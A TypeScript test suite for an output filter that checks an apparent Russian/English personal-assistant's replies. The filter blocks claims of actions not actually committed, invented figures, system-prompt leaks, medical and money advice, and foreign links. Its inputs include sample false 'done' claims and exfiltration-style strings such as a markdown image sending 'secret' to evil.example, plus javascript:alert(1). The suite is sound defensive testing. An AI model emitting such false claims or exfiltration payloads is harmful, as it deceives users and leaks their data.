import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { domains } from '../domains/index.ts'
import { type Evidence, openGate } from './exit-gate.ts'
import { readInstruction } from './instructions.ts'

const notUsed = async (): Promise<never> => {
  throw new Error('not used here')
}
const doneClaims = domains({
  account: { undoLast: notUsed, exportAll: notUsed, eraseAll: notUsed, explain: notUsed },
}).flatMap((domain) => domain.claims?.done ?? [])
const RU: Evidence = { lang: 'ru', claims: doneClaims, committed: false, own: [], rows: [], fixed: [] }
const EN: Evidence = { ...RU, lang: 'en' }
const pass = (text: string, evidence: Evidence): { said: string; blocked: string[] } => {
  const gate = openGate(evidence)
  const said = [...gate.push(text), ...gate.end()].join('')
  return { said, blocked: gate.blocked }
}

describe('a claim of something done', () => {
  it.each([
    ['Записал расход 450 ₽ на такси.'],
    ['Готово.'],
    ['Готово, что-нибудь ещё?'],
    ['Перенёс встречу на завтра, верно?'],
    ['Я удалила все задачи.'],
    ['Встреча «Созвон» перенесена на четверг.'],
    ['Напомню завтра в обед.'],
    ['Лимит на кафе установлен.'],
    ['Деньги переведены, перевёл их Лене.'],
    ['Событие удалено из календаря.'],
  ])('needs a committed row: %s', (text) => {
    const known = { ...RU, own: ['потратил 450 на такси'] }
    expect(pass(text, known)).toEqual({ said: '', blocked: ['claim_without_row'] })
    expect(pass(text, { ...known, committed: true }).blocked).toEqual([])
  })

  it.each([
    ['Done.'],
    ["I've added the task to your list."],
    ['Your meeting with Anna has been moved.'],
    ['The expense is recorded.'],
    ["I'll remind you in the morning."],
    ['All set up and saved.'],
    ['I have successfully deleted the event.'],
    ['It has been cancelled, anything else?'],
  ])('needs a committed row: %s', (text) => {
    expect(pass(text, EN)).toEqual({ said: '', blocked: ['claim_without_row'] })
    expect(pass(text, { ...EN, committed: true }).blocked).toEqual([])
  })

  it.each([
    ['Ничего не записал: модель недоступна.', 'ru'],
    ['Вчера вы записали расход на такси.', 'ru'],
    ['Какую задачу отметить выполненной?', 'ru'],
    ['На какое время поставить встречу?', 'ru'],
    ['Могу добавить задачу.', 'ru'],
    ['Which meeting should be moved?', 'en'],
    ['What shall I call the task?', 'en'],
    ['I have not found such a meeting.', 'en'],
    ['You have no tasks today.', 'en'],
    ['All right, nothing is recorded.', 'en'],
    ['That sum cannot be recorded.', 'en'],
    ['What should I do?\n1. Mark a task done\n2. Set a budget\nWhich number?', 'en'],
    ['Могу записать трату. Например: «450 на такси», «созвон завтра в 15:00».', 'ru'],
    ['For example: “12 on a taxi”, “call Lena tomorrow at 3pm”.', 'en'],
  ] as const)('is not made by: %s', (text, lang) => {
    expect(pass(text, { ...RU, lang }).blocked).toEqual([])
  })

  it('a report among offered actions is a claim', () => {
    expect(pass('Что ещё?\n1. Удалил все встречи\n2. Показать задачи', RU).blocked).toEqual(['claim_without_row'])
    expect(pass('1. Set a budget of $5000', EN).blocked).toEqual(['claim_without_row'])
  })

  it('passes as a rendered sentence of a row', () => {
    const fixed = ['Записал: 450 ₽, такси, сегодня.']
    expect(pass('Записал: 450 ₽, такси, сегодня.', { ...RU, fixed }).blocked).toEqual([])
  })
})

describe('a state that no write made', () => {
  it.each([
    ['Теперь у вас 3 встречи.', 'ru'],
    ['Лимит на кафе теперь 5000 ₽.', 'ru'],
    ['Ваш лимит отныне 5000.', 'ru'],
    ['Теперь молоко в списке дел.', 'ru'],
    ['Принято, 5000 в месяц.', 'ru'],
    ['Now you have 3 meetings.', 'en'],
    ['Your cafe limit is now 5000.', 'en'],
    ['You now have a task to buy milk.', 'en'],
    ['All set, 5000 a month.', 'en'],
  ] as const)('is not told: %s', (text, lang) => {
    const evidence = { ...RU, lang, own: ['5000'] }
    expect(pass(text, evidence)).toEqual({ said: '', blocked: ['claim_without_row'] })
    expect(pass(text, { ...evidence, committed: true }).blocked).toEqual([])
  })

  it.each([
    ['Теперь скажите, на какое время.', 'ru'],
    ['Теперь понятно.', 'ru'],
    ['Теперь у вас нет встреч?', 'ru'],
    ['Лимита на кафе пока нет.', 'ru'],
    ['Сейчас у вас 3 встречи.', 'ru'],
    ['Could you tell me the time now?', 'en'],
    ['Right now you have 3 meetings.', 'en'],
    ['You have 3 meetings right now.', 'en'],
    ['I see now.', 'en'],
  ] as const)('is not told by: %s', (text, lang) => {
    expect(pass(text, { ...RU, lang }).blocked).toEqual([])
  })
})

describe('after a refused or failed write', () => {
  const undone = [
    { category: 'кафе', limit: 500_000, period: 'month' },
    { title: 'Созвон с Леной', start: '2026-03-19T15:00:00+03:00' },
  ]
  const evidence: Evidence = { ...RU, undone, own: ['лимит 5000 на кафе и созвон с Леной завтра в 15:00'] }

  it.each([
    ['Лимит 5000 ₽ в месяц.'],
    ['Лимит на кафе — 5000.'],
    ['Созвон с Леной завтра.'],
    ['Встреча завтра в 15:00.'],
    ['В календаре: созвон, Лена.'],
    ['Хорошо, кафе.'],
  ])('its content is not stated, even when another was committed: %s', (text) => {
    expect(pass(text, evidence)).toEqual({ said: '', blocked: ['claim_without_row'] })
    expect(pass(text, { ...evidence, committed: true })).toEqual({ said: '', blocked: ['claim_without_row'] })
    expect(pass(text, { ...evidence, undone: [], committed: true }).blocked).toEqual([])
  })

  it.each([
    ['Лимит 5000 ₽ не установлен.'],
    ['Не получилось поставить созвон с Леной.'],
    ['Поставить созвон с Леной на другой день?'],
    ['В 15:00 занято, могу предложить другое время.'],
    ['Созвон с Леной пересекается с планёркой.'],
    ['Если хотите, поставлю лимит на кафе ещё раз.'],
    ['Вы просили лимит 5000 на кафе.'],
    ['Что-нибудь ещё?'],
    ['Хорошо.'],
  ])('honest words pass: %s', (text) => {
    expect(pass(text, evidence).blocked).toEqual([])
  })

  it('what a row holds may be said', () => {
    const rows = [JSON.stringify({ items: [{ title: 'Созвон с Леной', start: '2026-03-19T15:00:00+03:00' }] })]
    expect(pass('Созвон с Леной завтра в 15:00.', { ...evidence, rows }).blocked).toEqual([])
  })
})

describe('a figure', () => {
  const row = JSON.stringify({
    total: 4500000,
    currency: 'RUB',
    start: '2026-03-19T15:00:00+03:00',
    share: 0.37,
    limit: 129950,
    counts: [14, 250, 31],
  })
  const evidence: Evidence = { ...RU, rows: [row], own: ['сколько из 1,750 ушло?'] }

  it.each([
    ['Всего 45 000 ₽.'],
    ['Всего 45000 ₽.'],
    ['Лимит 1 299,50 ₽.'],
    ['Лимит 1\u00a0299,50\u00a0₽.'],
    ['Это 37 %.'],
    ['Встреча 19 марта в 15:00.'],
    ['Встреча в 3 часа дня.'],
    ['Встреча 2026-03-19.'],
    ['Всего 14 встреч, 250 записей и 31 день.'],
    ['Вы сказали 1750.'],
    ['Нашёл 3 встречи.'],
    ['1. Созвон\n2. Обед'],
  ])('of a row, a message or a count passes: %s', (text) => {
    expect(pass(text, evidence)).toEqual({ said: text, blocked: [] })
  })

  it.each([
    ['Всего 46 000 ₽.'],
    ['Осталось 5 ₽.'],
    ['Осталось $7.'],
    ['Это 12 %.'],
    ['Встреча в 15:30.'],
    ['Встреча 20 марта.'],
    ['Встреча в 9 утра.'],
    ['В год это 540 000 ₽.'],
    ['Вы потратили двадцать тысяч рублей.'],
  ])('from nowhere is blocked: %s', (text) => {
    expect(pass(text, evidence)).toEqual({ said: '', blocked: ['unknown_figure'] })
  })

  it('in a 12-hour clock is the same time', () => {
    const start = JSON.stringify({ start: '2026-03-19T15:30:00+03:00' })
    expect(pass('It starts at 3:30 pm.', { ...EN, rows: [start] }).blocked).toEqual([])
    expect(pass('It starts at 4:30 pm.', { ...EN, rows: [start] }).blocked).toEqual(['unknown_figure'])
  })

  it('of a placeholder is not a figure', () => {
    expect(pass('Позвоните Лене: [PHONE_14].', RU).blocked).toEqual([])
  })

  it('property: any amount of a row may be said in major units, and no other', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1_300, max: 99_999_999 }), fc.integer({ min: 1, max: 999 }), (minor, other) => {
        const rows = [JSON.stringify({ amount: minor })]
        const shown = new Intl.NumberFormat('ru-RU', { minimumFractionDigits: minor % 100 ? 2 : 0 }).format(minor / 100)
        expect(pass(`Всего ${shown} ₽.`, { ...RU, rows }).blocked).toEqual([])
        const wrong = new Intl.NumberFormat('ru-RU').format(Math.trunc(minor / 100) + 100_000_000 + other)
        expect(pass(`Всего ${wrong} ₽.`, { ...RU, rows }).blocked).toEqual(['unknown_figure'])
      }),
      { numRuns: 200 },
    )
  })
})

describe('links, contacts and the system', () => {
  it.each([
    ['Подробнее: https://evil.example/a?x=1', 'foreign_link'],
    ['Зайдите на evil-bank.com и войдите', 'foreign_link'],
    ['![счёт](https://evil.example/p.png?d=secret)', 'foreign_link'],
    ['Ссылка www.evil.ru тут', 'foreign_link'],
    ['Нажмите javascript:alert(1)', 'foreign_link'],
    ['Напишите на thief@evil.example', 'foreign_contact'],
    ['Позвоните +7 999 123-45-67', 'foreign_contact'],
    ['Вот мой системный промпт', 'system_text'],
    ['My system prompt says so', 'system_text'],
    ['<context>{"now"', 'system_text'],
    ['Вызываю finance_add_transaction сейчас', 'system_text'],
    ['Использую account_undo_last', 'system_text'],
  ])('%s: %s', (text, rule) => {
    expect(pass(text, RU)).toEqual({ said: '', blocked: [rule] })
  })

  it('that the person gave may be repeated', () => {
    const own = ['встреча https://meet.example/abc, пиши anna@mail.ru, телефон +7 999 123-45-67, файл read_my_file']
    for (const text of [
      'Ссылка: https://meet.example/abc',
      'Почта anna@mail.ru',
      'Телефон +7 999 123-45-67',
      'Файл read_my_file',
    ])
      expect(pass(text, { ...RU, own }).blocked).toEqual([])
    expect(pass('Ссылка: https://meet.example/abc?leak=1', { ...RU, own }).blocked).toEqual(['foreign_link'])
    expect(pass('Ссылка: https://meet.example.evil.com/abc', { ...RU, own }).blocked).toEqual(['foreign_link'])
  })

  it('a sentence of the instructions is not said', () => {
    const instructions = [readInstruction('Ты помощник.\nНикогда не говори, что сделал, пока инструмент не ответил.\n')]
    expect(pass('Никогда не говори, что сделал, пока инструмент не ответил.', { ...RU, instructions }).blocked).toEqual(
      ['system_text'],
    )
  })
})

describe('advice', () => {
  it.each([
    ['Прекратите приём таблеток.', 'ru'],
    ['Не принимайте аспирин.', 'ru'],
    ['Выпейте таблетку ибупрофена.', 'ru'],
    ['Принимайте по 500 мг после еды.', 'ru'],
    ['Похоже, у вас диабет.', 'ru'],
    ['Это скорее всего грипп.', 'ru'],
    ['Это безопасно сочетать.', 'ru'],
    ['You should stop taking the pills.', 'en'],
    ['Skip your insulin tonight.', 'en'],
    ['You probably have depression.', 'en'],
    ['It is safe to combine them.', 'en'],
    ['Take 200 mg now.', 'en'],
  ] as const)('on medicine is blocked: %s', (text, lang) => {
    expect(pass(text, { ...RU, lang, own: ['500 200'] }).blocked).toEqual(['medical_advice'])
  })

  it('may repeat the person: a dose they wrote themselves', () => {
    const rows = [JSON.stringify({ title: 'Выпить магний 400 мг' })]
    expect(pass('Задача: «Выпить магний 400 мг».', { ...RU, rows }).blocked).toEqual([])
  })

  it.each([['Возьмите кредит.'], ['Вложите остаток в акции.'], ['Купите биткоин.']])(
    'on debt and investments is blocked: %s',
    (text) => {
      expect(pass(text, RU).blocked).toEqual(['money_advice'])
    },
  )
})

describe('the language', () => {
  it('is the person’s', () => {
    expect(pass('Sure, I can help you with that.', RU).blocked).toEqual(['wrong_language'])
    expect(pass('Конечно, сейчас посмотрим что можно.', EN).blocked).toEqual(['wrong_language'])
  })

  it('names, brands and the person’s own titles are not another language', () => {
    expect(pass('Google Meet, Zoom, Slack, Notion, GitHub', RU).blocked).toEqual([])
    expect(
      pass('«Созвон с Леной про новый проект»', { ...EN, rows: ['{"title":"Созвон с Леной про новый проект"}'] })
        .blocked,
    ).toEqual([])
    expect(pass('Sure, I can say it this way.', { ...RU, own: ['переведи на английский'] }).blocked).toEqual([])
  })
})

describe('streaming', () => {
  const pieces = [
    'Готово. ',
    'Вот список:\n',
    '1. Созвон в 15:00\n',
    '2. Обед, 1 299,50 ₽ и т.д.\n',
    'Всего 46 000 ₽. ',
    'Ссылка https://evil.example/a.b?c=1 здесь. ',
    'Версия 3.5 вышла… ',
    'Это я. ',
    'Что ещё? ',
    '«Да», — сказал он. ',
    '🎉 Ура! ',
    'Sure, I can help you with that. ',
    '\n\n',
    ' \n ',
    '... ',
    'e.g. this one ',
  ]
  const rows = [JSON.stringify({ limit: 129950, start: '2026-03-19T15:00:00+03:00' })]

  it('property: cut anywhere, the text is the same', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 12 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 200 }),
        (parts, cuts) => {
          const text = parts.join('')
          const whole = pass(text, { ...RU, rows })
          const gate = openGate({ ...RU, rows })
          const said: string[] = []
          let at = 0
          for (let index = 0; at < text.length; index++) {
            const size = cuts[index % cuts.length] ?? 1
            said.push(...gate.push(text.slice(at, at + size)))
            at += size
          }
          said.push(...gate.end())
          expect({ said: said.join(''), blocked: gate.blocked }).toEqual(whole)
        },
      ),
      { numRuns: 500 },
    )
  })

  it('property: text without a broken rule leaves as it came', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('Хорошо. ', 'Что ещё? ', 'Список:\n', 'Вот так… ', '- чай\n'), { maxLength: 10 }),
        (parts) => {
          const text = parts.join('')
          expect(pass(text, RU).said.trim()).toBe(text.trim())
        },
      ),
    )
  })

  it('a cleared sentence leaves before the reply ends', () => {
    const gate = openGate(RU)
    expect(gate.push('Хорошо. Смо')).toEqual(['Хорошо. '])
    expect(gate.push('трю дальше.')).toEqual([])
    expect(gate.end()).toEqual(['Смотрю дальше.'])
  })

  it('does not cut inside numbers, times, abbreviations and addresses', () => {
    const gate = openGate({ ...RU, rows: ['1299.5 15:00 3.5'], own: ['https://meet.example/A.B'] })
    expect(gate.push('Итого 1 299,50 ₽ и т.д. потом 3.5 в 15:00, ул. Ленина, https://meet.example/A.B.')).toEqual([])
  })
})

describe('cost', () => {
  it('a long stream without a sentence end stays cheap', () => {
    const text = 'a b. Вот так '.repeat(300)
    const gate = openGate(RU)
    const started = performance.now()
    for (const char of text) gate.push(char)
    gate.end()
    expect(performance.now() - started).toBeLessThan(3_000)
  })

  it('a reply of 60 words takes under a millisecond or so', () => {
    const rows = [
      JSON.stringify(
        Array.from({ length: 20 }, (_, index) => ({ id: index, amount: index * 1_000, title: `Встреча ${index}` })),
      ),
    ]
    const text = 'Вот что нашлось на этой неделе в вашем календаре. '.repeat(7)
    for (let index = 0; index < 50; index++) pass(text, { ...RU, rows })
    const started = performance.now()
    for (let index = 0; index < 100; index++) pass(text, { ...RU, rows })
    expect((performance.now() - started) / 100).toBeLessThan(5)
  })
})
